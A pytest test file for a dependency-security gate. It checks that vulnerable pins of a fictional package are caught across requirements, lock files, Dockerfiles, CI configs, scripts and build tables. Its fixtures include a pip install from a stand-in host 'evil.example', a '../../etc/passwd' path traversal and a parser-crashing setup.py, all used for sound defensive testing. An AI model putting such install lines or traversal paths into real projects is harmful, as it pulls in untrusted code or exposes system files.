"""Red-team bypasses of the dependency gate: ranges that admit only vulnerable releases,
requirements that name no release (VCS, URLs, paths), and declarations in files the gate did
not read (setup.py, pylock.toml, build requirements, uv/hatch tables, rye locks, Dockerfiles)."""

from __future__ import annotations

import datetime as dt
import json
import os
from pathlib import Path

import pytest

from _check_helpers import REPO
from mltrust.advisories import AdvisoryDB
from mltrust.evidence import CollectContext, collect_evidence
from mltrust.policy import ControlStatus, evaluate, load_profile
from mltrust.policy._waivers import parse_waivers

NOW = "2099-01-01T00:00:00Z"
VULN = "no-vulnerable-dependencies"


def _advisory(aid: str, events: list[dict[str, str]], versions: list[str], vector: str) -> dict:  # type: ignore[type-arg]
    return {
        "id": aid,
        "modified": NOW,
        "severity": [{"type": "CVSS_V3", "score": vector}],
        "affected": [
            {
                "package": {"name": "evilpkg", "ecosystem": "PyPI"},
                "ranges": [{"type": "ECOSYSTEM", "events": events}],
                "versions": versions,
            }
        ],
    }


HIGH = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"
MEDIUM = "CVSS:3.1/AV:N/AC:H/PR:L/UI:R/S:U/C:L/I:L/A:N"


@pytest.fixture
def db(tmp_path: Path) -> Path:
    """evilpkg: OSV-EVIL-1 (high) affects < 2.0; OSV-EVIL-2 (high) affects 3.0 (fixed 3.1);
    OSV-EVIL-3 (medium) affects 4.0 (fixed 4.1)."""
    src = tmp_path / "osv"
    src.mkdir()
    docs = [
        _advisory(
            "OSV-EVIL-1", [{"introduced": "0"}, {"fixed": "2.0"}], ["1.0", "1.5", "1.9"], HIGH
        ),
        _advisory("OSV-EVIL-2", [{"introduced": "3.0"}, {"fixed": "3.1"}], ["3.0"], HIGH),
        _advisory("OSV-EVIL-3", [{"introduced": "4.0"}, {"fixed": "4.1"}], ["4.0"], MEDIUM),
    ]
    for doc in docs:
        (src / f"{doc['id']}.json").write_text(json.dumps(doc))
    target = tmp_path / "adv.db"
    AdvisoryDB.import_osv(src, target)
    return target


def _check(project: Path, db: Path, waivers: object = None):  # type: ignore[no-untyped-def]
    bundle = collect_evidence(CollectContext(project, advisory_db=db))
    parsed = parse_waivers(waivers) if waivers is not None else ()
    verdict = evaluate(bundle.document, load_profile("default"), waivers=parsed)
    return bundle, {r.control.id: r for r in verdict.results}


def _project(tmp_path: Path, files: dict[str, str]) -> Path:
    root = tmp_path / "p"
    for rel, content in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(content)
    return root


# -- 1. ranges that admit only vulnerable releases ------------------------------------------


@pytest.mark.parametrize(
    ("spec", "reason"),
    [
        ("evilpkg<2.0", "every-allowed-version-affected"),
        ("evilpkg==1.*", "every-allowed-version-affected"),
        ("evilpkg~=1.5", "every-allowed-version-affected"),
        ("evilpkg>=1.0,<1.9.1", "every-allowed-version-affected"),
        ("evilpkg>=1.5,<3.1", "newest-allowed-version-affected"),
    ],
)
def test_attack_range_admitting_only_vulnerable_versions_fails(
    tmp_path: Path, db: Path, spec: str, reason: str
) -> None:
    root = _project(tmp_path, {"requirements.txt": f"{spec}\n"})
    bundle, controls = _check(root, db)
    blocking = [r for r in bundle.document["deps"]["unpinned_vulnerable"] if r["blocking"]]
    assert blocking and {r["reason"] for r in blocking} == {reason}
    assert controls[VULN].status is ControlStatus.FAIL
    details = " ".join(controls[VULN].details)
    assert "resolves to an affected version" in details
    expected = "every allowed version" if reason.startswith("every") else "the newest allowed"
    assert expected in details


@pytest.mark.parametrize("spec", ["evilpkg>=1.4", "evilpkg", "evilpkg>=3.0,<4.2"])
def test_range_that_allows_a_fixed_newest_version_only_warns(
    tmp_path: Path, db: Path, spec: str
) -> None:
    root = _project(tmp_path, {"requirements.txt": f"{spec}\n"})
    bundle, controls = _check(root, db)
    rows = bundle.document["deps"]["unpinned_vulnerable"]
    assert rows and not any(r["blocking"] for r in rows)
    assert controls[VULN].status is ControlStatus.PASS
    assert controls["dependencies-pinned"].status is ControlStatus.WARN


def test_range_whose_newest_is_only_low_severity_affected_warns(tmp_path: Path, db: Path) -> None:
    root = _project(tmp_path, {"requirements.txt": "evilpkg>=3.5,<4.1\n"})
    bundle, controls = _check(root, db)
    rows = bundle.document["deps"]["unpinned_vulnerable"]
    assert [(r["id"], r["blocking"]) for r in rows] == [("OSV-EVIL-3", False)]
    assert controls[VULN].status is ControlStatus.PASS


def test_blocking_range_can_be_waived_by_advisory(tmp_path: Path, db: Path) -> None:
    root = _project(tmp_path, {"requirements.txt": "evilpkg<2.0\n"})
    expires = (dt.date.today() + dt.timedelta(days=30)).isoformat()
    waiver = [
        {
            "advisory": "OSV-EVIL-1",
            "package": "evilpkg",
            "justification": "reviewed",
            "expires": expires,
        }
    ]
    _, controls = _check(root, db, waiver)
    assert controls[VULN].status is ControlStatus.PASS


def test_attack_pyyaml_range_below_fix_fails_with_real_snapshot(tmp_path: Path) -> None:
    from _check_helpers import subset_db

    snap = os.environ.get("MLTRUST_TEST_ADVISORY_DB") or str(
        REPO.parent / "shared" / "data" / "pypa-advisory-db"
    )
    if not Path(snap, "vulns", "pyyaml").is_dir():
        pytest.skip("PyPA advisory snapshot not found")
    db = subset_db(tmp_path, ("pyyaml",))
    for spec in ("pyyaml<5.4", "pyyaml==5.3.*"):
        root = _project(tmp_path / spec.replace("*", "x"), {"requirements.txt": f"{spec}\n"})
        _, controls = _check(root, db)
        assert controls[VULN].status is ControlStatus.FAIL, spec
    root = _project(tmp_path / "ok", {"requirements.txt": "pyyaml>=5.4\n"})
    _, controls = _check(root, db)
    assert controls[VULN].status is ControlStatus.PASS


# -- 2. requirements that name no release ---------------------------------------------------


@pytest.mark.parametrize(
    "line",
    [
        "-e git+https://github.com/evil/evilpkg@v1.5#egg=evilpkg",
        "--editable=git+https://github.com/evil/evilpkg#egg=evilpkg",
        "git+https://github.com/evil/evilpkg@v1.5#egg=evilpkg",
        "evilpkg @ https://example.com/evilpkg-1.5-py3-none-any.whl",
        "evilpkg @ git+ssh://git@github.com/evil/evilpkg",
        "https://example.com/evilpkg-1.5.tar.gz",
        "./wheels/evilpkg-1.5-py3-none-any.whl",
        "-e ../outside/evilpkg",
        "/opt/src/evilpkg",
    ],
)
def test_attack_vcs_url_or_path_requirement_is_not_silently_dropped(
    tmp_path: Path, db: Path, line: str
) -> None:
    root = _project(tmp_path, {"requirements.txt": f"flask==3.0.0\n{line}\n"})
    bundle, controls = _check(root, db)
    rows = bundle.document["deps"]["unverifiable"]
    assert [(r["source"], r["line"]) for r in rows] == [("requirements.txt", 2)]
    assert controls[VULN].status is ControlStatus.FAIL
    assert any(d.startswith("not checked: requirements.txt:2") for d in controls[VULN].details)
    assert not bundle.document["deps"]["unpinned"]


def test_unverifiable_requirement_can_be_waived_one_by_one(tmp_path: Path, db: Path) -> None:
    root = _project(
        tmp_path, {"requirements.txt": "git+https://github.com/us/ourlib@abc#egg=ourlib\n"}
    )
    expires = (dt.date.today() + dt.timedelta(days=30)).isoformat()
    waiver = [
        {
            "rule": "MLT-DEP-008",
            "path": "requirements.txt",
            "justification": "our own library, reviewed",
            "expires": expires,
        }
    ]
    _, controls = _check(root, db, waiver)
    assert controls[VULN].status is ControlStatus.PASS


@pytest.mark.parametrize("line", ["-e .", "-e ./libs/core", "./libs/core", "-e file:."])
def test_the_projects_own_folder_is_not_unverifiable(tmp_path: Path, db: Path, line: str) -> None:
    root = _project(
        tmp_path,
        {"requirements.txt": f"{line}\n", "libs/core/pyproject.toml": '[project]\nname = "c"\n'},
    )
    bundle, controls = _check(root, db)
    assert bundle.document["deps"]["unverifiable"] == []
    assert controls[VULN].status is ControlStatus.PASS


@pytest.mark.parametrize(
    ("name", "content"),
    [
        (
            "pyproject.toml",
            '[project]\nname = "x"\ndependencies = ["evilpkg @ git+https://e.com/evilpkg"]\n',
        ),
        (
            "pyproject.toml",
            '[project]\nname = "x"\ndependencies = ["evilpkg==2.0"]\n'
            '[tool.uv.sources]\nevilpkg = { git = "https://e.com/evilpkg" }\n',
        ),
        ("pyproject.toml", '[tool.poetry.dependencies]\nevilpkg = { git = "https://e.com/e" }\n'),
        ("Pipfile", '[packages]\nevilpkg = { path = "../evilpkg", editable = true }\n'),
        (
            "uv.lock",
            'version = 1\n[[package]]\nname = "evilpkg"\nversion = "2.0"\n'
            'source = { git = "https://e.com/evilpkg?rev=main#0123abc" }\n',
        ),
        (
            "poetry.lock",
            '[[package]]\nname = "evilpkg"\nversion = "2.0"\n'
            '[package.source]\ntype = "git"\nurl = "https://e.com/evilpkg"\n',
        ),
        (
            "environment.yml",
            "dependencies:\n  - pip:\n    - -e git+https://e.com/evilpkg#egg=evilpkg\n",
        ),
        (
            "pylock.toml",
            'lock-version = "1.0"\n[[packages]]\nname = "evilpkg"\nversion = "2.0"\n'
            '[packages.vcs]\ntype = "git"\nurl = "https://e.com/evilpkg"\n'
            'commit-id = "0123456789abcdef0123456789abcdef01234567"\n',
        ),
    ],
)
def test_attack_vcs_or_path_source_in_other_formats_is_unverifiable(
    tmp_path: Path, db: Path, name: str, content: str
) -> None:
    root = _project(tmp_path, {name: content})
    bundle, controls = _check(root, db)
    assert [r["source"] for r in bundle.document["deps"]["unverifiable"]] == [name]
    assert controls[VULN].status is ControlStatus.FAIL


# -- 2b. files the gate did not read ---------------------------------------------------------

_SETUP_NAME = """\
from setuptools import setup
REQUIRED = [
    "flask>=2",
    "evilpkg==1.5",
]
setup(name="x", install_requires=REQUIRED)
"""


@pytest.mark.parametrize(
    ("files", "source", "line"),
    [
        (
            {
                "setup.py": "from setuptools import setup\nsetup(\n"
                '  install_requires=["evilpkg==1.5"],\n)\n'
            },
            "setup.py",
            3,
        ),
        (
            {
                "setup.py": 'import setuptools\nsetuptools.setup(extras_require={"x": [\n'
                '"evilpkg==1.5"]})\n'
            },
            "setup.py",
            3,
        ),
        ({"setup.py": _SETUP_NAME}, "setup.py", 4),
        (
            {
                "pyproject.toml": '[project]\nname = "x"\ndynamic = ["dependencies"]\n'
                '[tool.setuptools.dynamic]\ndependencies = {file = ["deps.pip"]}\n',
                "deps.pip": "flask>=2\nevilpkg==1.5\n",
            },
            "deps.pip",
            2,
        ),
        (
            {
                "pylock.toml": 'lock-version = "1.0"\n[[packages]]\n'
                'name = "evilpkg"\nversion = "1.5"\n'
            },
            "pylock.toml",
            3,
        ),
        (
            {
                "pylock.dev.toml": 'lock-version = "1.0"\n\n[[packages]]\n'
                'name = "evilpkg"\nversion = "1.5"\n'
            },
            "pylock.dev.toml",
            4,
        ),
        (
            {"pyproject.toml": '[build-system]\nrequires = ["evilpkg==1.5"]\n'},
            "pyproject.toml",
            2,
        ),
        (
            {"pyproject.toml": '[tool.uv]\noverride-dependencies = ["evilpkg==1.5"]\n'},
            "pyproject.toml",
            2,
        ),
        (
            {"pyproject.toml": '[tool.uv]\nconstraint-dependencies = ["evilpkg==1.5"]\n'},
            "pyproject.toml",
            2,
        ),
        (
            {"pyproject.toml": '[tool.hatch.envs.test]\ndependencies = [\n  "evilpkg==1.5",\n]\n'},
            "pyproject.toml",
            3,
        ),
        ({"requirements.lock": "# rye\n-e file:.\nevilpkg==1.5\n"}, "requirements.lock", 3),
        ({"requirements-dev.lock": "evilpkg==1.5\n"}, "requirements-dev.lock", 1),
        (
            {
                "Dockerfile": "FROM python:3.12\nRUN pip install --no-cache-dir flask==3.0.0 \\\n"
                "    evilpkg==1.5\n"
            },
            "Dockerfile",
            2,
        ),
        (
            {
                "Dockerfile.prod": "FROM python:3.12\nRUN apt-get update && "
                "python -m pip install -U 'evilpkg==1.5'\n"
            },
            "Dockerfile.prod",
            2,
        ),
        (
            {"docker/app.Dockerfile": 'FROM x\nRUN ["pip3", "install", "evilpkg==1.5"]\n'},
            "docker/app.Dockerfile",
            2,
        ),
        (
            {
                "Dockerfile": "FROM x\nCOPY deps.pip /tmp/\nRUN set -e; \\\n"
                "  pip install -r /tmp/deps.pip\n",
                "deps.pip": "evilpkg==1.5\n",
            },
            "deps.pip",
            1,
        ),
    ],
)
def test_attack_vulnerable_pin_in_a_file_the_gate_did_not_read(
    tmp_path: Path, db: Path, files: dict[str, str], source: str, line: int
) -> None:
    root = _project(tmp_path, files)
    bundle, controls = _check(root, db)
    vulns = bundle.document["deps"]["vulnerabilities"]
    assert {(v["source"], v["line"], v["id"]) for v in vulns} == {(source, line, "OSV-EVIL-1")}
    assert controls[VULN].status is ControlStatus.FAIL


@pytest.mark.parametrize(
    "setup",
    [
        "from setuptools import setup\nsetup(install_requires=open('r.txt').read().split())\n",
        "from setuptools import setup\nsetup(install_requires=[x for x in ['evilpkg==1.5']])\n",
        "from setuptools import setup\nkw = dict(install_requires=['evilpkg==1.5'])\nsetup(**kw)\n",
    ],
)
def test_attack_non_literal_setup_py_requirements_are_a_problem_never_run(
    tmp_path: Path, db: Path, setup: str
) -> None:
    marker = tmp_path / "ran"
    root = _project(tmp_path, {"setup.py": f"open({str(marker)!r}, 'w')\n" + setup})
    bundle, controls = _check(root, db)
    assert not marker.exists()
    assert bundle.document["deps"]["errors"]
    assert all(e.startswith("setup.py:") for e in bundle.document["deps"]["errors"])
    assert controls[VULN].status is ControlStatus.FAIL


@pytest.mark.parametrize(
    "run",
    [
        "RUN pip install evilpkg==${EVIL_VERSION}",
        "RUN pip install git+https://github.com/evil/evilpkg",
        "RUN pip install -r /build/generated.txt",
        "RUN pip install -e /src/evilpkg",
    ],
)
def test_attack_dockerfile_install_that_cannot_be_matched_is_unverifiable(
    tmp_path: Path, db: Path, run: str
) -> None:
    root = _project(tmp_path, {"Dockerfile": f"FROM python:3.12\n{run}\n"})
    bundle, controls = _check(root, db)
    assert [(r["source"], r["line"]) for r in bundle.document["deps"]["unverifiable"]] == [
        ("Dockerfile", 2)
    ]
    assert controls[VULN].status is ControlStatus.FAIL


def test_dockerfile_install_of_the_build_context_is_the_project(tmp_path: Path, db: Path) -> None:
    root = _project(
        tmp_path,
        {
            "Dockerfile": "FROM x\nWORKDIR /app\nCOPY . .\nRUN pip install --no-deps . && \\\n"
            '    pip install -r requirements.txt\nCMD ["python"]\n',
            "requirements.txt": "flask==3.0.0\n",
        },
    )
    bundle, controls = _check(root, db)
    assert bundle.document["deps"]["unverifiable"] == []
    assert bundle.document["deps"]["errors"] == []
    assert controls[VULN].status is ControlStatus.PASS


def test_dockerfile_without_pip_declares_no_dependencies(tmp_path: Path, db: Path) -> None:
    root = _project(tmp_path, {"Dockerfile": "FROM nginx\nCOPY site /usr/share/nginx/html\n"})
    bundle, _ = _check(root, db)
    assert bundle.document["deps"]["present"] is False


@pytest.mark.parametrize(
    ("name", "content", "error"),
    [
        ("Dockerfile", "FROM x\nRUN pip install 'evilpkg==1.5\n", "command not understood"),
        ("setup.py", "setup(install_requires=" + "[" * 5000 + "]" * 5000 + ")\n", "setup.py"),
        ("setup.py", "def (:\n", "does not parse"),
        ("pylock.toml", "[[packages]]\nversion = '1.0'\n", "without a name"),
        (
            "pyproject.toml",
            '[tool.setuptools.dynamic]\ndependencies = {file = ["../../etc/passwd"]}\n',
            "outside the project",
        ),
    ],
)
def test_hostile_dependency_files_are_problems_not_crashes(
    tmp_path: Path, db: Path, name: str, content: str, error: str
) -> None:
    root = _project(tmp_path, {name: content})
    bundle, controls = _check(root, db)
    errors = bundle.document["deps"]["errors"]
    assert errors and error in " ".join(errors)
    assert controls[VULN].status is ControlStatus.FAIL


# -- 4. declarations outside the manifests: tox, nox, CI, scripts, pre-commit, PEP 723, pixi ----

_NOX = "import nox\n\n@nox.session\ndef tests(session):\n    session.install({args})\n"


@pytest.mark.parametrize(
    ("files", "source", "line"),
    [
        # tox: deps, includes, substitutions, factors, commands, TOML forms
        (
            {"tox.ini": "[tox]\nenvlist = py\n[testenv]\ndeps =\n    pytest\n    evilpkg==1.5\n"},
            "tox.ini",
            6,
        ),
        (
            {"tox.ini": "[testenv]\ndeps =\n    -r ci/test.lst\n", "ci/test.lst": "evilpkg==1.5\n"},
            "ci/test.lst",
            1,
        ),
        (
            {"tox.ini": "[base]\ndeps = evilpkg==1.5\n[testenv:lint]\ndeps = {[base]deps}\n"},
            "tox.ini",
            2,
        ),
        ({"tox.ini": "[testenv]\ndeps =\n    py312: evilpkg==1.5\n"}, "tox.ini", 3),
        (
            {"tox.ini": "[testenv]\ncommands =\n    pip install evilpkg==1.5\n    pytest\n"},
            "tox.ini",
            3,
        ),
        (
            {
                "pyproject.toml": '[tool.tox]\nlegacy_tox_ini = """\n[testenv]\n'
                'deps = evilpkg==1.5\n"""\n'
            },
            "pyproject.toml",
            4,
        ),
        ({"tox.toml": '[env_run_base]\ndeps = ["evilpkg==1.5"]\n'}, "tox.toml", 2),
        ({"tox.toml": '[env.t]\ncommands = [["pip", "install", "evilpkg==1.5"]]\n'}, "tox.toml", 2),
        # nox: constant arguments of session.install, read from the syntax tree
        ({"noxfile.py": _NOX.format(args='"pytest", "evilpkg==1.5"')}, "noxfile.py", 5),
        (
            {"noxfile.py": _NOX.format(args='"-r", "ci/nox.lst"'), "ci/nox.lst": "evilpkg==1.5\n"},
            "ci/nox.lst",
            1,
        ),
        ({"noxfile.py": 'DEPS = ["evilpkg==1.5"]\n' + _NOX.format(args="*DEPS")}, "noxfile.py", 6),
        # install commands in CI files, scripts, Makefiles
        (
            {
                ".github/workflows/ci.yml": "on: push\njobs:\n  t:\n    steps:\n      - run: |\n"
                "          python -m pip install -U pip\n          pip install evilpkg==1.5\n"
            },
            ".github/workflows/ci.yml",
            7,
        ),
        (
            {".gitlab-ci.yml": "test:\n  script:\n    - python -m pip install 'evilpkg==1.5'\n"},
            ".gitlab-ci.yml",
            3,
        ),
        (
            {"azure-pipelines.yml": "steps:\n- script: uv pip install evilpkg==1.5\n"},
            "azure-pipelines.yml",
            2,
        ),
        (
            {
                ".circleci/config.yml": "jobs:\n  b:\n    steps:\n"
                "      - run: pip3 install evilpkg==1.5\n"
            },
            ".circleci/config.yml",
            4,
        ),
        (
            {"Jenkinsfile": "pipeline {\n  stages {\n    sh 'pip install evilpkg==1.5'\n  }\n}\n"},
            "Jenkinsfile",
            3,
        ),
        (
            {"scripts/setup.sh": "#!/bin/sh\nset -e\npip install \\\n  evilpkg==1.5\n"},
            "scripts/setup.sh",
            3,
        ),
        ({"bin/bootstrap": "#!/usr/bin/env bash\nuv add evilpkg==1.5\n"}, "bin/bootstrap", 2),
        ({"install.sh": "pipx install evilpkg==1.5\n"}, "install.sh", 1),
        # installs hidden one level down: sh -c, backticks, a variable named for pip, uv run
        ({"ci.sh": "docker run img bash -c 'pip install evilpkg==1.5 && pytest'\n"}, "ci.sh", 1),
        ({"ci.sh": "x=`python -m pip install evilpkg==1.5`\n"}, "ci.sh", 1),
        ({"ci.sh": 'PIP="python -m pip"\n$PIP install evilpkg==1.5\n'}, "ci.sh", 2),
        ({"ci.sh": "uv run --with evilpkg==1.5 pytest\n"}, "ci.sh", 1),
        (
            {
                "bin/tool": "#!/usr/bin/env -S uv run --script\n# /// script\n"
                "# dependencies = ['evilpkg==1.5']\n# ///\n"
            },
            "bin/tool",
            3,
        ),
        (
            {
                "Makefile": "PIP = python -m pip\nLOCK := ci/lock.lst\n"
                "dev:\n\t$(PIP) install -c $(LOCK) x\n",
                "ci/lock.lst": "evilpkg==1.5\n",
            },
            "ci/lock.lst",
            1,
        ),
        ({"Makefile": "dev:\n\t@python -m pip install evilpkg==1.5\n"}, "Makefile", 2),
        # pre-commit hooks' additional dependencies
        (
            {
                ".pre-commit-config.yaml": "repos:\n  - repo: local\n    hooks:\n      - id: x\n"
                "        language: python\n        additional_dependencies: [evilpkg==1.5]\n"
            },
            ".pre-commit-config.yaml",
            6,
        ),
        # requirements files by wider names, and included from anything read
        ({"myrequirements.txt": "evilpkg==1.5\n"}, "myrequirements.txt", 1),
        ({"constraints2.txt": "evilpkg==1.5\n"}, "constraints2.txt", 1),
        (
            {
                "environment.yml": "dependencies:\n  - pip:\n    - -r conda.lst\n",
                "conda.lst": "evilpkg==1.5\n",
            },
            "conda.lst",
            1,
        ),
        # PEP 723 inline script metadata
        (
            {
                "tools/report.py": "# /// script\n# requires-python = '>=3.11'\n"
                "# dependencies = [\n"
                "#   'evilpkg==1.5',\n# ]\n# ///\nprint(1)\n"
            },
            "tools/report.py",
            4,
        ),
        # pixi
        (
            {"pixi.toml": '[project]\nname = "x"\n[pypi-dependencies]\nevilpkg = "==1.5"\n'},
            "pixi.toml",
            4,
        ),
        (
            {"pixi.toml": '[feature.test.pypi-dependencies]\nevilpkg = { version = "==1.5" }\n'},
            "pixi.toml",
            2,
        ),
        (
            {
                "pyproject.toml": '[project]\nname = "x"\n[tool.pixi.pypi-dependencies]\n'
                'evilpkg = "==1.5"\n'
            },
            "pyproject.toml",
            4,
        ),
    ],
)
def test_attack_vulnerable_pin_declared_outside_the_manifests(
    tmp_path: Path, db: Path, files: dict[str, str], source: str, line: int
) -> None:
    root = _project(tmp_path, files)
    bundle, controls = _check(root, db)
    vulns = bundle.document["deps"]["vulnerabilities"]
    assert {(v["source"], v["line"], v["id"]) for v in vulns} == {(source, line, "OSV-EVIL-1")}
    assert controls[VULN].status is ControlStatus.FAIL


@pytest.mark.parametrize(
    ("files", "source"),
    [
        ({"tox.ini": "[testenv]\ndeps = {[missing]deps}\n"}, "tox.ini"),
        ({"tox.ini": "[testenv]\ndeps = evilpkg=={env:EVIL_VERSION}\n"}, "tox.ini"),
        ({"noxfile.py": _NOX.format(args="*get_deps()")}, "noxfile.py"),
        ({"noxfile.py": _NOX.format(args='f"evilpkg=={V}"')}, "noxfile.py"),
        ({"scripts/i.sh": 'pip install "$PKG"\n'}, "scripts/i.sh"),
        ({"Makefile": "i:\n\tpip install -r $(shell ls *.lst)\n"}, "Makefile"),
        (
            {
                ".github/workflows/x.yml": "jobs:\n  a:\n    steps:\n"
                "      - run: pip install ${{ matrix.pkg }}\n"
            },
            ".github/workflows/x.yml",
        ),
        (
            {"Jenkinsfile": 'sh "pip install https://evil.example/evilpkg-1.5.tar.gz"\n'},
            "Jenkinsfile",
        ),
    ],
)
def test_attack_install_that_cannot_be_read_fails_closed(
    tmp_path: Path, db: Path, files: dict[str, str], source: str
) -> None:
    root = _project(tmp_path, files)
    bundle, controls = _check(root, db)
    rows = bundle.document["deps"]["unverifiable"]
    assert rows and {r["source"] for r in rows} == {source}
    assert controls[VULN].status is ControlStatus.FAIL


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("tools/x.py", "# /// script\n# dependencies = [\n#   'evilpkg==1.5'\n# ///\n"),
        ("tox.ini", "[testenv\ndeps = evilpkg==1.5\n"),
        ("scripts/a.sh", "pip install 'evilpkg==1.5\n"),
        (".pre-commit-config.yaml", "repos: [\n  additional_dependencies: evilpkg==1.5\n"),
        ("noxfile.py", "def (:\n  session.install('evilpkg==1.5')\n"),
    ],
)
def test_attack_declaration_that_does_not_parse_fails_closed(
    tmp_path: Path, db: Path, name: str, content: str
) -> None:
    root = _project(tmp_path, {name: content})
    bundle, controls = _check(root, db)
    assert bundle.document["deps"]["present"] is True
    errors = bundle.document["deps"]["errors"]
    assert errors and all(e.startswith(name) for e in errors)
    assert controls[VULN].status is ControlStatus.FAIL


def test_attack_install_commands_without_any_manifest_are_not_skipped(
    tmp_path: Path, db: Path
) -> None:
    root = _project(tmp_path, {"deploy/run.sh": "#!/bin/bash\npip install evilpkg==${V}\n"})
    bundle, controls = _check(root, db)
    assert bundle.document["deps"]["present"] is True
    assert "deploy/run.sh" in bundle.document["deps"]["sources"]
    assert controls[VULN].status is ControlStatus.FAIL


def test_install_commands_of_the_project_itself_are_clean(tmp_path: Path, db: Path) -> None:
    root = _project(
        tmp_path,
        {
            "Makefile": "VENV ?= .venv\nBIN := $(VENV)/bin\n.installed:\n"
            "\t$(BIN)/python -m pip install --require-hashes -r requirements.txt\n"
            "\t$(BIN)/python -m pip install --no-deps -e '.[all,test]'  # the project\n",
            "scripts/ci.sh": "#!/bin/sh\n# pip install evilpkg==1.5 (a comment)\n"
            'echo "pip install evilpkg==1.5"\npip install .\n',
            "requirements.txt": "flask==3.0.0\n",
            "pyproject.toml": '[project]\nname = "x"\n',
        },
    )
    bundle, controls = _check(root, db)
    deps = bundle.document["deps"]
    assert deps["unverifiable"] == [] and deps["errors"] == []
    assert deps["vulnerabilities"] == []
    assert controls[VULN].status is ControlStatus.PASS


def test_pre_commit_hooks_of_other_languages_are_not_python(tmp_path: Path, db: Path) -> None:
    root = _project(
        tmp_path,
        {
            ".pre-commit-config.yaml": "repos:\n  - repo: https://x/mirrors-prettier\n"
            "    hooks:\n      - id: prettier\n"
            "        additional_dependencies: ['prettier@3.0.0']\n"
            "      - id: y\n        language: node\n"
            "        additional_dependencies: [evilpkg==1.5]\n",
        },
    )
    bundle, controls = _check(root, db)
    assert bundle.document["deps"]["vulnerabilities"] == []
    assert bundle.document["deps"]["errors"] == []
    assert controls[VULN].status is ControlStatus.PASS


@pytest.mark.parametrize("tag", ["", "!reference [.x, y]"])
def test_ci_step_names_that_mention_pip_are_not_installs(
    tmp_path: Path, db: Path, tag: str
) -> None:
    root = _project(
        tmp_path,
        {
            ".gitlab-ci.yml": "t:\n  variables:\n    X: " + (tag or "y") + "\n"
            "  script:\n    - python -m pip install evilpkg==1.5\n"
            "  name: Run pip install for docs\n",
        },
    )
    bundle, _ = _check(root, db)
    deps = bundle.document["deps"]
    assert deps["unpinned"] == [] and deps["errors"] == []
    assert {(v["source"], v["line"]) for v in deps["vulnerabilities"]} == {(".gitlab-ci.yml", 5)}
